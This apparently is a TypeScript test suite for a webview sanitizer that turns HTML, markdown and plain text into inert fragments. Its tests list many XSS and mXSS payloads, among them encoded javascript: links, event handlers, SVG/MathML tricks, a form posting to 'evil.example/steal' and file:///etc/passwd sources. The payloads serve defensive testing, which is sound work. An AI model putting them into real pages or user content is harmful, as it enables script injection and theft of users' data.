import * as assert from 'assert';
import { JSDOM } from 'jsdom';
import { type Sanitizer, createSanitizer, safeLinkUrl } from '../../src/webview-ui/case/sanitize';

const FORBIDDEN_TAGS = ['script', 'iframe', 'frame', 'frameset', 'object', 'embed', 'form', 'input', 'button', 'textarea', 'base', 'meta', 'link', 'style', 'svg', 'math', 'template', 'noscript', 'video', 'audio', 'source', 'applet'];

/** Nothing executable, navigating or styling survives; links are http(s)/mailto, images data: or http(s). */
function assertInert(root: Element): void {
  for (const tag of FORBIDDEN_TAGS) assert.strictEqual(root.querySelector(tag), null, `<${tag}> survived: ${root.innerHTML}`);
  for (const el of Array.from(root.querySelectorAll('*'))) {
    for (const attr of Array.from(el.attributes)) {
      const name = attr.name.toLowerCase();
      // The sanitizer's own placeholder for images it does not load.
      if (name === 'class' && el.localName === 'span' && attr.value === 'blocked-image') continue;
      assert.ok(!name.startsWith('on'), `event handler ${name} survived on <${el.localName}>: ${root.innerHTML}`);
      assert.ok(!['style', 'srcdoc', 'action', 'formaction', 'class', 'id', 'srcset', 'xlink:href', 'http-equiv'].includes(name), `attribute ${name} survived: ${root.innerHTML}`);
      const value = attr.value.replace(/[\s\u0000-\u001f]/g, '').toLowerCase();
      assert.ok(!/^(javascript|vbscript|livescript):/.test(value), `script URL in ${name}: ${attr.value}`);
      if (name === 'href') assert.match(attr.value, /^(https?|mailto):/i, `href ${attr.value}`);
      if (name === 'src') assert.match(attr.value, /^(https?:|data:image\/)/i, `src ${attr.value}`);
    }
  }
}

describe('webview sanitizer', () => {
  let window: JSDOM['window'];
  let sanitizer: Sanitizer;

  before(() => {
    window = new JSDOM('<!doctype html><html><body></body></html>').window;
    sanitizer = createSanitizer(window as unknown as Window);
  });
  after(() => window.close());

  function html(body: string, allowRemoteImages = false) {
    const result = sanitizer.html(body, { allowRemoteImages });
    const div = window.document.createElement('div');
    div.appendChild(result.fragment);
    return { div, blocked: result.blockedImages, remote: result.remoteImages };
  }
  function markdown(body: string, allowRemoteImages = false) {
    const result = sanitizer.markdown(body, { allowRemoteImages });
    const div = window.document.createElement('div');
    div.appendChild(result.fragment);
    return { div, blocked: result.blockedImages };
  }

  describe('hostile HTML', () => {
    const hostile: Array<[string, string]> = [
      ['script element', '<p>hi</p><script>alert(1)</script>'],
      ['script with src', '<script src="https://evil.example/x.js"></script>'],
      ['img onerror', '<img src=x onerror="alert(1)">'],
      ['body onload', '<body onload="alert(1)"><p>x</p></body>'],
      ['onclick and onmouseover', '<div onclick="alert(1)" onmouseover="alert(2)">x</div>'],
      ['details ontoggle', '<details open ontoggle="alert(1)"><summary>s</summary></details>'],
      ['marquee onstart', '<marquee onstart="alert(1)">x</marquee>'],
      ['javascript: href', '<a href="javascript:alert(1)">x</a>'],
      ['mixed-case javascript:', '<a href="JaVaScRiPt:alert(1)">x</a>'],
      ['entity-encoded javascript:', '<a href="jav&#x61;script:alert(1)">x</a>'],
      ['fully entity-encoded javascript:', '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>'],
      ['decimal entities without semicolons', '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>'],
      ['tab inside the scheme', '<a href="java\tscript:alert(1)">x</a>'],
      ['encoded tab inside the scheme', '<a href="jav&#x09;ascript:alert(1)">x</a>'],
      ['newline inside the scheme', '<a href="java&NewLine;script&colon;alert(1)">x</a>'],
      ['leading spaces and control characters', '<a href=" &#14; javascript:alert(1)">x</a>'],
      ['vbscript:', '<a href="vbscript:msgbox(1)">x</a>'],
      ['mixed-case vbscript:', '<a href="VbScRiPt:msgbox(1)">x</a>'],
      ['data:text/html link', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'],
      ['data:text/html image', '<img src="data:text/html,<script>alert(1)</script>">'],
      ['svg with script', '<svg><script>alert(1)</script></svg>'],
      ['svg onload', '<svg onload="alert(1)"><circle r="4"/></svg>'],
      ['svg link', '<svg><a xlink:href="javascript:alert(1)"><text x="0" y="10">x</text></a></svg>'],
      ['svg foreignObject', '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>'],
      ['svg animate', '<svg><animate onbegin="alert(1)" attributeName="x" dur="1s"/></svg>'],
      ['mathml mglyph/style mXSS', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>'],
      ['form/math namespace confusion', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>'],
      ['mathml xlink', '<math><mi xlink:href="javascript:alert(1)">x</mi></math>'],
      ['noscript mXSS', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
      ['template', '<template><script>alert(1)</script></template><p>after</p>'],
      ['style attribute with javascript url', '<div style="background:url(javascript:alert(1))">x</div>'],
      ['CSS expression', '<p style="width: expression(alert(1))">x</p>'],
      ['style element', '<style>@import "https://evil.example/x.css"; body{background:red}</style><p>x</p>'],
      ['stylesheet link', '<link rel="stylesheet" href="https://evil.example/x.css"><p>x</p>'],
      ['iframe srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
      ['iframe src', '<iframe src="https://evil.example/"></iframe>'],
      ['form with action and formaction', '<form action="https://evil.example/steal"><input name="password"><button formaction="javascript:alert(1)">go</button></form>'],
      ['meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example/">'],
      ['base href', '<base href="https://evil.example/"><a href="/x">x</a>'],
      ['object and embed', '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">'],
      ['media with handlers', '<video><source onerror="alert(1)"></video><audio src=x onerror=alert(1)></audio>'],
      ['nested encoding of the scheme', '<a href="&amp;#106;avascript:alert(1)">x</a>'],
      ['percent-encoded scheme', '<a href="%6A%61%76%61script:alert(1)">x</a>'],
      ['area with javascript href', '<map name="m"><area shape="rect" coords="0,0,1,1" href="javascript:alert(1)"></map>'],
      ['button formaction outside a form', '<button formaction="javascript:alert(1)">b</button>'],
      ['isindex', '<isindex action="javascript:alert(1)" type="image">'],
      ['srcset tracking', '<img srcset="https://evil.example/x.png 1x" src="data:image/png;base64,iVBORw0KGgo=">'],
      ['spoofed panel markup', '<div class="kind-badge internal" id="composer-text-reply" role="alert" aria-live="assertive" tabindex="1">Internal note</div>'],
      ['data attributes', '<p data-action="refresh" data-focus="status">x</p>'],
      ['unclosed comment trick', '<!--<img src="--><img src=x onerror=alert(1)//">'],
      ['CDATA in HTML', '<![CDATA[<img src=x onerror=alert(1)>]]>'],
    ];
    for (const [name, input] of hostile) {
      it(`neutralises ${name}`, () => assertInert(html(input).div));
    }

    it('keeps the text of removed links and drops their href', () => {
      const { div } = html('<a href="javascript:alert(1)" onclick="alert(1)">click me</a>');
      const a = div.querySelector('a');
      assert.ok(a);
      assert.strictEqual(a.getAttribute('href'), null);
      assert.strictEqual(a.textContent, 'click me');
    });

    it('keeps the text around a script and drops the script body', () => {
      const { div } = html('<p>before</p><script>alert("x")</script><p>after</p>');
      assert.strictEqual(div.textContent, 'beforeafter');
    });

    it('cannot pose as panel markup: class, id, role and aria attributes are gone', () => {
      const { div } = html('<span class="kind-badge internal" id="x" role="alert" aria-label="Internal note">Internal note</span>');
      const span = div.querySelector('span')!;
      assert.deepStrictEqual(Array.from(span.attributes).map((a) => a.name), []);
    });
  });

  describe('ordinary formatting', () => {
    it('keeps paragraphs, emphasis, lists, quotes, code, tables, headings and safe links', () => {
      const { div } = html(
        '<h2>Title</h2><p>para <b>bold</b> <i>it</i> <strong>s</strong> <em>e</em> <u>u</u> <s>s</s></p>' +
          '<ul><li>one</li><li>two</li></ul><ol><li>first</li></ol><blockquote>quoted</blockquote>' +
          '<pre><code>let x = 1;</code></pre><table><thead><tr><th>h</th></tr></thead><tbody><tr><td>c</td></tr></tbody></table>' +
          '<a href="https://example.com/path?q=1">link</a> <a href="mailto:ana@example.com">mail</a><br><hr>',
      );
      for (const tag of ['h2', 'p', 'b', 'i', 'strong', 'em', 'u', 's', 'ul', 'ol', 'li', 'blockquote', 'pre', 'code', 'table', 'thead', 'tbody', 'tr', 'th', 'td', 'a', 'br', 'hr']) {
        assert.ok(div.querySelector(tag), `<${tag}> was removed`);
      }
      const links = Array.from(div.querySelectorAll('a')).map((a) => a.getAttribute('href'));
      assert.deepStrictEqual(links, ['https://example.com/path?q=1', 'mailto:ana@example.com']);
      assertInert(div);
    });

    it('marks links as noopener, without target, with the real target as title', () => {
      const { div } = html('<a href="https://example.com/" target="_blank">Your invoice</a>');
      const a = div.querySelector('a')!;
      assert.strictEqual(a.getAttribute('target'), null);
      assert.match(a.getAttribute('rel') ?? '', /noopener/);
      assert.strictEqual(a.getAttribute('title'), 'https://example.com/');
    });
  });

  describe('images', () => {
    it('replaces remote images by a placeholder naming the host, and counts them', () => {
      const { div, blocked, remote } = html('<p>Hi<img src="https://tracker.example.com/p.gif?u=1" alt="logo"></p>');
      assert.strictEqual(div.querySelector('img'), null);
      assert.match(div.textContent ?? '', /\[remote image blocked: tracker\.example\.com/);
      assert.strictEqual(blocked, 1);
      assert.strictEqual(remote, 1);
    });

    it('loads remote images when allowed, without a referrer', () => {
      const { div, blocked, remote } = html('<img src="https://cdn.example.com/a.png">', true);
      const img = div.querySelector('img')!;
      assert.strictEqual(img.getAttribute('src'), 'https://cdn.example.com/a.png');
      assert.strictEqual(img.getAttribute('referrerpolicy'), 'no-referrer');
      assert.strictEqual(blocked, 0);
      assert.strictEqual(remote, 1);
    });

    it('does not load plain-http images even when remote images are allowed (the CSP allows https only)', () => {
      const { div } = html('<img src="http://cdn.example.com/a.png">', true);
      assert.strictEqual(div.querySelector('img'), null);
      assert.match(div.textContent ?? '', /\[insecure image not loaded: cdn\.example\.com\]/);
    });

    it('keeps data: images and drops cid:, relative and file: ones', () => {
      const { div } = html('<img src="data:image/png;base64,iVBORw0KGgo="><img src="cid:part1" alt="inline"><img src="/local.png"><img src="file:///etc/passwd">');
      assert.strictEqual(div.querySelectorAll('img').length, 1);
      assert.match(div.querySelector('img')!.getAttribute('src')!, /^data:image\/png/);
      assert.match(div.textContent ?? '', /\[image not shown: inline\]/);
      assertInert(div);
    });
  });

  describe('markdown', () => {
    it('renders formatting and links', () => {
      const { div } = markdown('**bold** _it_\n\n- one\n- two\n\n> quote\n\n`code` [docs](https://example.com/docs) https://example.org/auto');
      for (const tag of ['strong', 'em', 'ul', 'li', 'blockquote', 'code']) assert.ok(div.querySelector(tag), `<${tag}> missing`);
      const hrefs = Array.from(div.querySelectorAll('a')).map((a) => a.getAttribute('href'));
      assert.deepStrictEqual(hrefs, ['https://example.com/docs', 'https://example.org/auto']);
    });

    const hostileLinks = [
      '[x](javascript:alert(1))',
      '[x](JAVASCRIPT:alert(1))',
      '[x](jav&#x61;script:alert(1))',
      '[x](vbscript:msgbox(1))',
      '[x](data:text/html;base64,PHNjcmlwdD4=)',
      '<javascript:alert(1)>',
      '[x][ref]\n\n[ref]: javascript:alert(1)',
      '![x](javascript:alert(1))',
    ];
    for (const input of hostileLinks) {
      it(`neutralises ${JSON.stringify(input)}`, () => assertInert(markdown(input).div));
    }

    it('shows raw HTML as text', () => {
      const { div } = markdown('Hello <script>alert(1)</script> <img src=x onerror=alert(1)> <b>b</b>');
      assert.strictEqual(div.querySelector('script'), null);
      assert.strictEqual(div.querySelector('img'), null);
      assert.strictEqual(div.querySelector('b'), null);
      assert.match(div.textContent ?? '', /<script>alert\(1\)<\/script>/);
      assert.match(div.textContent ?? '', /<img src=x onerror=alert\(1\)>/);
      assertInert(div);
    });

    it('blocks remote images in markdown too', () => {
      const { div, blocked } = markdown('![chart](https://img.example.com/c.png)');
      assert.strictEqual(div.querySelector('img'), null);
      assert.strictEqual(blocked, 1);
    });
  });

  describe('plain text', () => {
    it('keeps markup as text and line breaks as characters', () => {
      const div = window.document.createElement('div');
      div.appendChild(sanitizer.text('<b>hi</b>\n<script>alert(1)</script>\nline 3').fragment);
      assert.strictEqual(div.querySelector('b'), null);
      assert.strictEqual(div.querySelector('script'), null);
      assert.strictEqual(div.textContent, '<b>hi</b>\n<script>alert(1)</script>\nline 3');
    });

    it('links bare http(s) URLs and nothing else', () => {
      const div = window.document.createElement('div');
      div.appendChild(sanitizer.text('See https://status.example.com/incidents/42. Not javascript:alert(1) though.').fragment);
      const links = Array.from(div.querySelectorAll('a'));
      assert.deepStrictEqual(links.map((a) => a.getAttribute('href')), ['https://status.example.com/incidents/42']);
      assert.strictEqual(div.textContent, 'See https://status.example.com/incidents/42. Not javascript:alert(1) though.');
    });
  });

  describe('safeLinkUrl', () => {
    it('accepts http, https and mailto', () => {
      assert.strictEqual(safeLinkUrl('https://example.com/a b'), 'https://example.com/a%20b');
      assert.strictEqual(safeLinkUrl(' http://example.com '), 'http://example.com/');
      assert.strictEqual(safeLinkUrl('mailto:ana@example.com'), 'mailto:ana@example.com');
    });
    it('rejects everything else', () => {
      for (const bad of ['javascript:alert(1)', 'java\tscript:alert(1)', 'JAVASCRIPT:x', 'vbscript:x', 'data:text/html,x', 'file:///etc/passwd', 'command:workbench.action.quit', 'vscode://x', '/relative', '#anchor', '', undefined, null]) {
        assert.strictEqual(safeLinkUrl(bad), undefined, String(bad));
      }
    });
  });
});
